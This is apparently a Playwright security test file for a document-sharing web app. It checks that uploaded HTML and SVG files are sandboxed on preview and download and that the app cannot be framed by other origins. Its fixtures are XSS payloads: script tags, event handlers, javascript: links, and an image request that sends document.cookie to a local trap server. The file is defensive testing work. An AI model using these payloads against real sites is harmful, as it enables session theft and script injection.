// Content of a hostile uploader in a real browser: nothing of it runs, and nothing of the session leaks.
import { expect, test, type Browser, type Page } from '@playwright/test';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { launched } from './steps/launched.ts';
import { apiOf } from './steps/api.ts';
import { signIn } from './steps/sign-in.ts';

const server = launched({ SEED: 'empty' });
/** Another origin: requests that arrive there were sent by the hostile content. */
let trap: Server;
let trapped: string;
let caught: IncomingMessage[] = [];

test.beforeAll(async () => {
  trap = createServer((request, response) => {
    caught.push(request);
    response.setHeader('Content-Type', 'text/html');
    response.end(`<!doctype html><h1>Elsewhere</h1><iframe src="${server.url}${request.url ?? ''}"></iframe>`);
  }).listen(0, '127.0.0.1');
  await once(trap, 'listening');
  trapped = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
});
test.afterAll(() => {
  trap.close();
  trap.closeAllConnections();
});
test.beforeEach(() => (caught = []));

/** Reveals in several ways that it ran: by the title, the trap, and the data room itself. */
const script = () => `
  document.title = 'script ran';
  document.documentElement.setAttribute('data-ran', 'yes');
  new Image().src = '${trapped}/image?' + encodeURIComponent(document.cookie);
  fetch('${trapped}/fetch').catch(() => undefined);
  fetch('${server.url}/api/logout', { method: 'POST' }).catch(() => undefined);
  try { top.document.title = 'script ran'; } catch {}
  try { window.open('${trapped}/window'); } catch {}
`;

const html = () => `<!doctype html><html><head><title>Harmless</title>
  <meta http-equiv="refresh" content="0;url=${trapped}/refresh">
  <base href="${trapped}/base/">
  <link rel="stylesheet" href="${trapped}/style.css">
  <script>${script()}</script><script src="${trapped}/script.js"></script></head>
  <body onload="${script().replaceAll('"', '&quot;')}">
  <p id="content">The content</p>
  <img src="${trapped}/image.png" onerror="document.title = 'script ran'">
  <svg onload="document.title = 'script ran'"></svg>
  <iframe src="${trapped}/frame"></iframe><iframe srcdoc="<script>parent.document.title = 'script ran'</script>"></iframe>
  <object data="${trapped}/object"></object><video src="${trapped}/video"></video>
  <style>@import url(${trapped}/import.css); body { background: url(${trapped}/background.png) }</style>
  <form id="form" action="${trapped}/form" method="post"><button>Send</button></form>
  <a id="link" href="javascript:document.title='script ran'">Link</a></body></html>`;

const svg =
  () => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"
  onload="${script().replaceAll('"', '&quot;').replaceAll('&&', '&amp;&amp;').replaceAll('=>', '=&gt;')}">
  <title>Harmless</title><script><![CDATA[${script()}]]></script><script href="${trapped}/script.js"/>
  <image href="${trapped}/image.png" width="10" height="10" onerror="document.title = 'script ran'"/>
  <foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml" onload="document.title='script ran'">
    <iframe src="${trapped}/frame"></iframe><script>document.title = 'script ran'</script></body></foreignObject>
  <use href="${trapped}/use.svg#x"/><a id="link" href="javascript:document.title='script ran'"><text id="content" x="10" y="50">The content</text></a>
  <animate attributeName="x" onbegin="document.title = 'script ran'" dur="1s"/></svg>`;

/** Stores and registers it in the page's session; returns its id. */
async function add(page: Page, name: string, mimeType: string, bytes: string): Promise<string> {
  const api = apiOf(page, server.url);
  const { uploadURL = '' } = (await api.POST('/api/objects/upload')).data ?? {};
  expect((await page.request.put(uploadURL, { data: Buffer.from(bytes) })).status()).toBe(200);
  const [documentURL = ''] = uploadURL.split('?');
  const restriction = { accessLevel: 'public', downloadRestricted: false } as const;
  const body = { documentURL, name, mimeType, size: bytes.length, ...restriction };
  const { data } = await api.PUT('/api/documents', { body });
  return data!.id;
}

async function expectNothingRan(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    if (frame.url().endsWith('/preview')) await frame.waitForLoadState('load');
  }
  // Follows any request of the content, and shows that the trap is listening.
  await page.request.get(`${trapped}/last`);
  expect(await page.title()).not.toBe('script ran');
  expect(await page.evaluate(() => document.documentElement.getAttribute('data-ran'))).toBeNull();
  expect(page.context().pages()).toHaveLength(1);
  expect(caught.map(({ url }) => url)).toEqual(['/last']);
  expect((await page.request.get(`${server.url}/api/auth/user`)).status()).toBe(200);
}

const kinds = [
  ['HTML', 'Hostile.html', 'text/html', html],
  ['SVG', 'Hostile.svg', 'image/svg+xml', svg],
] as const;

for (const [kind, name, mimeType, content] of kinds) {
  test(`${kind} with scripts, opened at the top level: it is shown, nothing runs, nothing is sent`, async ({
    page,
  }) => {
    await signIn(page, server.url, 'manager');
    const id = await add(page, `Top level ${name}`, mimeType, content());
    const answer = await page.goto(`${server.url}/api/documents/${id}/preview`);
    expect(answer?.status()).toBe(200);
    expect(answer?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
    await expect(page.getByText('marcus@strongroom.example').first()).toBeAttached();
    if (kind === 'HTML') {
      await expect(page.frameLocator('iframe').locator('#content')).toHaveText('The content');
      await page.frameLocator('iframe').locator('#link').dispatchEvent('click');
    } else {
      await expect(page.locator('image')).toHaveAttribute('href', /^data:image\/svg\+xml;/);
    }
    await expectNothingRan(page);
    expect(await page.evaluate(() => window.origin)).toBe('null');
  });

  test(`${kind} with scripts, in the preview of the app: the frame has no rights, and the app is untouched`, async ({
    page,
  }) => {
    await signIn(page, server.url, 'manager');
    const id = await add(page, `In the app ${name}`, mimeType, content());
    await page.goto(`${server.url}/documents`);
    await page
      .getByRole('row')
      .filter({ hasText: `In the app ${name}` })
      .getByRole('button', { name: /^Preview/ })
      .click();
    const dialog = page.getByRole('dialog', { name: `In the app ${name}` });
    const shown = dialog.locator(`iframe[src*="${id}"], [data-preview-stage] img[src^="blob:"]`);
    await expect(shown).toBeVisible();
    if (kind === 'HTML') {
      const content = dialog.frameLocator(`iframe[src*="${id}"]`).frameLocator('iframe').locator('#content');
      await expect(content).toHaveText('The content');
      expect(await content.evaluate((element) => element.ownerDocument.documentElement.dataset['ran'])).toBeUndefined();
    }
    await expectNothingRan(page);
  });

  test(`${kind} downloaded and asked for as a page: it is saved, never opened`, async ({ page }) => {
    await signIn(page, server.url, 'manager');
    const id = await add(page, `Saved ${name}`, mimeType, content());
    const saved = page.waitForEvent('download');
    await page.evaluate((address) => window.location.assign(address), `/api/documents/${id}/download`);
    expect((await saved).suggestedFilename()).toBe(`Saved ${name}`);
    await expectNothingRan(page);
  });
}

for (const [kind, , contentType, content] of kinds) {
  test(`the very same ${kind} runs its scripts where nothing forbids it, so that the traps mean something`, async ({
    page,
  }) => {
    await page.route(`${trapped}/control`, (route) => route.fulfill({ contentType, body: content() }));
    // It redirects at once, which ends the visit early.
    await page.goto(`${trapped}/control`).catch(() => null);
    await expect.poll(() => caught.some(({ url }) => url === '/script.js' || url === '/fetch')).toBe(true);
    await expect.poll(() => caught.some(({ url }) => url?.startsWith('/image?'))).toBe(true);
  });
}

test('a page of another origin that frames a preview sends no cookie and gets nothing', async ({ page }) => {
  await signIn(page, server.url, 'manager');
  const id = await add(page, 'Embedded elsewhere.html', 'text/html', html());
  const preview = `${server.url}/api/documents/${id}/preview`;
  const cookies: (string | undefined)[] = [];
  page.on('request', (request) => {
    if (request.url() === preview) void request.allHeaders().then((headers) => cookies.push(headers['cookie']));
  });
  const answered = page.waitForResponse(preview);
  await page.goto(`${trapped}/api/documents/${id}/preview`);
  expect((await answered).status()).toBe(401);
  await expect.poll(() => cookies).toEqual([undefined]);
  // A browser's own error page may have elements of any name, so the text is compared.
  await expect(page.frameLocator('iframe').getByText('The content')).toHaveCount(0);
});

for (const path of ['/', '/documents', '/users']) {
  test(`the app at ${path} is not shown in a frame of another origin`, async ({ browser }) => {
    const page = await framed(browser, path);
    const frame = page.frames().find((one) => one !== page.mainFrame());
    await expect.poll(() => frame?.url()).toMatch(/^(?:chrome-error:|about:blank)/);
    await expect(page.frameLocator('iframe').locator('#root')).toHaveCount(0);
    await page.close();
  });
}

/** A page on another origin that frames the app; resolves when the browser has reported its refusal. */
async function framed(browser: Browser, path: string): Promise<Page> {
  const page = await browser.newPage();
  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await page.goto(`${trapped}${path}`);
  await refused;
  return page;
}
